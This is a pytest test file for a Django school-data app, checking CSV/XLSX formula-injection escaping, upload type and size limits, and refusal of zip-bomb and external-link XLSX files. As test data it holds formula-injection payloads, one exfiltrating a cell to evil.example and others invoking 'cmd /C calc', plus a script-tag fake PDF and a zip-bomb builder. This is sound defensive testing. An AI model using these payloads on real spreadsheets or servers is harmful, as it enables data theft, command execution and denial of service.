"""Uploads are refused by kind and size; XLSX files are checked before they are parsed; every
CSV and XLSX export writes a cell a spreadsheet would run as a formula as plain text."""

import csv
import io
import zipfile

import openpyxl
import polars as pl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from opora.assessments.models import ResultImportJob, SchoolResult
from opora.exports import csv_bytes, safe_cell, xlsx_workbook_bytes
from opora.programs.models import Order
from opora.registry.models import School
from tests.conftest import PASSWORD
from tests.identification.test_runs import RESULTS, run_for

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1;"нажмите")',
    "+7 (999) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_start_is_written_as_text():
    for text in INJECTIONS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("СОШ № 1") == "СОШ № 1"
    assert safe_cell(-5) == -5  # numbers stay numbers
    rows = list(csv.reader(io.StringIO(csv_bytes([INJECTIONS]).decode("utf-8-sig")), delimiter=";"))
    assert all(cell.startswith("'") for cell in rows[0])
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_workbook_bytes({"Лист": [INJECTIONS]}))).active
    cells = next(sheet.iter_rows())
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)


def test_a_frame_is_written_as_its_rows_would_be():
    """A country's list is written by polars at once; the text must be the same as row by row:
    the same guard, quoting and line ends, and an empty text empty, not \"\"."""
    texts = [*INJECTIONS, "'уже с апострофом", "", "СОШ; № 1", '«Школа» "Радуга"', "два\nряда"]
    rows = [["text", "number"], *([text, number] for number, text in enumerate(texts))]
    frame = pl.DataFrame({"text": texts, "number": range(len(texts))})
    assert csv_bytes(frame) == csv_bytes(rows)
    assert csv_bytes(frame, delimiter=",") == csv_bytes(rows, delimiter=",")


# --- every export that exists -------------------------------------------------------------------


@pytest.fixture
def hostile_school(cast, school_a1, school_a2, school_b1):
    school_a1.short_name = INJECTIONS[0]
    school_a1.save()
    from opora.assessments.services import result_import

    result_import(content=RESULTS.encode(), filename="r.csv", imported_by=None)
    return school_a1


def test_identification_list_export_csv(client, hostile_school, cast, municipality_a):
    from opora.identification.models import RuleSet

    fioco = RuleSet.objects.get(code="shnor-fioco", version=1)
    run = run_for(cast["coordinator_a"], fioco, municipality_a)
    client.login(username="coordinator_a", password=PASSWORD)
    content = client.get(reverse("identification:run_export", args=[run.pk])).content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    names = [row[1] for row in rows[1:]]
    assert "'" + INJECTIONS[0] in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_identify_command_csv(hostile_school, tmp_path):
    output = tmp_path / "list.csv"
    call_command("identify", "--year", "2024", "--municipality", "mun-a", "--output", str(output))
    rows = list(csv.reader(output.open(encoding="utf-8")))
    assert ["a1", "'" + INJECTIONS[0]] == rows[1][:2]


def test_program_xlsx_export(client, program):
    indicator = program.indicators.first()
    indicator.name = INJECTIONS[3]
    indicator.save()
    activity = program.activities.first()
    activity.text, activity.responsible = INJECTIONS[0], INJECTIONS[2]
    activity.save()
    client.login(username="coordinator_a", password=PASSWORD)
    content = client.get(reverse("programs:program_export", args=[program.pk, "xlsx"])).content
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    texts = {c.value for c in cells}
    for injected in (INJECTIONS[3], INJECTIONS[0], INJECTIONS[2]):
        assert "'" + injected in texts
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"


# --- uploads ------------------------------------------------------------------------------------


def test_a_page_saved_as_pdf_is_not_taken_for_a_scan(client, cast, municipality_a):
    client.login(username="coordinator_a", password=PASSWORD)
    form = {
        "issuer": "Управление образования",
        "number": "1",
        "date": "17.02.2023",
        "title": "О мерах",
        "file": SimpleUploadedFile("prikaz.pdf", b"<html><script>alert(1)</script>"),
    }
    response = client.post(reverse("programs:order_create"), form)
    assert "Файл «prikaz.pdf» не является файлом PDF" in response.content.decode()
    assert not Order.objects.exists()


@pytest.mark.parametrize(
    "name,content",
    [("scan.png", b"GIF89a"), ("scan.jpg", b"%PDF-1.4"), ("order.docx", b"{\\rtf1")],
)
def test_documents_must_be_what_their_names_say(client, program, name, content):
    client.login(username="school_team_a1", password=PASSWORD)
    own = program.activities.first()
    response = client.post(
        reverse("programs:activity_detail", args=[own.pk]),
        {"status": "done", "evidence_file": SimpleUploadedFile(name, content)},
    )
    assert f"Файл «{name}» не является файлом" in response.content.decode()
    own.refresh_from_db()
    assert own.status == "planned" and not own.evidence_file


def test_an_oversized_scan_is_refused(client, cast, settings):
    settings.OPORA_UPLOAD_MAX_BYTES = 1024
    client.login(username="coordinator_a", password=PASSWORD)
    form = {
        "issuer": "УО",
        "number": "1",
        "date": "17.02.2023",
        "title": "О мерах",
        "file": SimpleUploadedFile("prikaz.pdf", b"%PDF-1.4" + b"0" * 2048),
    }
    response = client.post(reverse("programs:order_create"), form)
    assert "Файл больше 1,0\xa0КБ." in response.content.decode()
    assert not Order.objects.exists()


@pytest.mark.parametrize(
    "name,content,message",
    [
        ("schools.exe", b"MZ", "Загрузите файл CSV или XLSX"),
        (
            "schools.xlsx",
            b"school_code;school_name\n",
            "Файл «schools.xlsx» не является файлом XLSX",
        ),
        ("schools.csv", b"x" * 2048, "Файл больше 1,0\xa0КБ."),
    ],
)
def test_registry_upload_kind_and_size(client, cast, settings, name, content, message):
    settings.OPORA_UPLOAD_MAX_BYTES = 1024
    before = School.objects.count()
    client.login(username="region_operator", password=PASSWORD)
    response = client.post(
        reverse("registry:registry_import"), {"file": SimpleUploadedFile(name, content)}
    )
    assert message in response.content.decode()
    assert School.objects.count() == before


def test_django_refuses_a_request_body_over_its_limit(client, cast, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    client.login(username="coordinator_a", password=PASSWORD)
    client.raise_request_exception = False
    response = client.post(reverse("programs:order_create"), {"title": "x" * 4096})
    assert response.status_code == 400


# --- XLSX checked before parsing ----------------------------------------------------------------


def registry_xlsx(**extra_entries: bytes) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["school_code", "school_name"])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in extra_entries.items():
            archive.writestr(name.replace("__", "/"), data)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """About 200 KB on disk, 201 MB unpacked."""
    return registry_xlsx(xl__media__image1__bin=b"\0" * (201 * 1024 * 1024))


def external_link() -> bytes:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships"/></externalLink>'
    )
    return registry_xlsx(xl__externalLinks__externalLink1__xml=link)


@pytest.mark.parametrize(
    "content,message",
    [
        (zip_bomb, "файл XLSX слишком велик после распаковки"),
        (external_link, "файл XLSX содержит ссылки на другие файлы; удалите их"),
    ],
)
def test_registry_import_refuses_dangerous_xlsx(client, cast, content, message):
    before = School.objects.count()
    client.login(username="region_operator", password=PASSWORD)
    upload = SimpleUploadedFile("schools.xlsx", content())
    response = client.post(reverse("registry:registry_import"), {"file": upload})
    page = response.content.decode()
    assert response.status_code == 400
    assert "Файл schools.xlsx не загружен, данные не изменены." in page or message in page
    assert message in page
    assert School.objects.count() == before


def test_results_import_refuses_a_zip_bomb(client, cast, django_capture_on_commit_callbacks):
    client.login(username="coordinator_a", password=PASSWORD)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("assessments:results_import"),
            {"file": SimpleUploadedFile("results.xlsx", zip_bomb())},
        )
    job = ResultImportJob.objects.get()
    response = client.get(reverse("assessments:import_job", args=[job.pk]))
    assert job.status == "refused"
    assert job.problems == ["файл XLSX слишком велик после распаковки"]
    assert "слишком велик после распаковки" in response.content.decode()
    assert not SchoolResult.objects.exists()


def test_program_import_refuses_external_links(client, program):
    client.login(username="coordinator_a", password=PASSWORD)
    before = [a.text for a in program.activities.all()]
    response = client.post(
        reverse("programs:program_import", args=[program.pk]),
        {"file": SimpleUploadedFile("program.xlsx", external_link())},
        follow=True,
    )
    assert "ссылки на другие файлы" in response.content.decode()
    assert [a.text for a in program.activities.all()] == before
